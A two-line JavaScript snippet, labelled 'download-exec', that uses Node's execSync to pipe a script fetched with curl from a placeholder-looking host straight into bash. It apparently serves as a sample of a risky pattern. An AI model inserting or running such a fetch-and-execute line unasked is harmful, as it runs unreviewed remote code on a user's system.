// download-exec: the curl pipe into bash, run from node
require('child_process').execSync('curl -fsSL https://get.example-tools.dev/install.sh | bash', { stdio: 'inherit' });
